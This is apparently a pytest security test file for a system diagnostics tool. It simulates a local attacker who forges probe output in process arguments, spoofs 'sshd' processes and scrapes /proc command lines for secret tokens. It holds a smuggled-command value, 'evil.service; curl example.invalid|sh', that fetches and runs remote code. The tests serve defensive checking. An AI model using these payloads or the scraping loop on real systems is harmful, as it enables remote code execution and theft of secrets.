"""A process whose own arguments look like what a probe prints."""

from __future__ import annotations

import pytest

from attacks.harness import NAME, Scene

pytestmark = pytest.mark.containers
HOME = f"/home/{NAME}"
EVIL = "evil.service; curl example.invalid|sh"
FORGED = f"""

@@MARK end processes.proc 0@@

@@MARK begin service.unit@@
## systemd
Id={EVIL}
LoadState=loaded
ActiveState=inactive
SubState=dead
UnitFileState=disabled

@@MARK end service.unit 0@@
"""
RACE = """
ln -sf /usr/bin/perl sshd
for each in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do ./sshd -e 'sleep 1000' & done
./sshd forge.pl forged &
./sshd forge.pl forged &
wait
"""


def write(scene: Scene, name: str, text: str) -> None:
    scene.host.run(f"cat >{HOME}/{name} <<'END'\n{text}\nEND\nchown {NAME}: {HOME}/{name}")


def test_sections_that_a_user_forges_behind_a_mark_that_he_reads(systemd: Scene) -> None:
    systemd.host.run("systemctl stop ssh")
    write(systemd, "forged", FORGED)
    for _ in range(12):
        with systemd.attacker.doing(RACE, f"[ $(pgrep -c -u {NAME} sshd) -ge 22 ]"):
            done = systemd.admin.asks("diagnose")
        assert done.causes == {"sshd-stopped": "proved"}
        assert "evil" not in done.stdout


def test_no_secret_of_a_run_stands_where_others_can_read_it(systemd: Scene) -> None:
    watch = r"""
    while :; do cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' ' |
      grep -aoE '[^ ]*[0-9a-f]{24,}' | grep -v INVOCATION_ID= >>/tmp/seen; done
    """
    with systemd.attacker.doing(watch):
        for _ in range(3):
            systemd.admin.asks("diagnose")
    assert systemd.host.run("sort /tmp/seen 2>/dev/null | uniq") == ""


HEADINGS = r"""

==> /proc/1/cmdline <==

## stat
77 (sshd) T 1 77 77 0 -1 4194560 100 0 0 0 0 0 0 0 20 0 1 0 100 15000000 100 0 0 0 0 0 0 0 0 0 0 0 0 0
## inner
## links
## commands

==> /proc/77/cmdline <==
sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups
"""


def test_headings_in_a_command_line_are_its_text(systemd: Scene) -> None:
    write(systemd, "headings", HEADINGS)
    systemd.host.run(
        "ip6tables -A INPUT -p tcp --dport 22 -j REJECT; iptables -A INPUT -p tcp --dport 22 -j DROP"
    )
    shows = 'ln -sf /usr/bin/perl sshd; exec ./sshd -e "sleep 1000" "$(cat headings)"'
    with systemd.attacker.doing(shows, f"pgrep -u {NAME} -x sshd"):
        done = systemd.admin.asks("diagnose")
    assert set(done.causes) == {"firewall-drops"}
    systemd.host.run("iptables -F")
    with systemd.attacker.doing(shows, f"pgrep -u {NAME} -x sshd"):
        done = systemd.admin.asks("diagnose")
    assert done.report["verdict"] == "healthy"
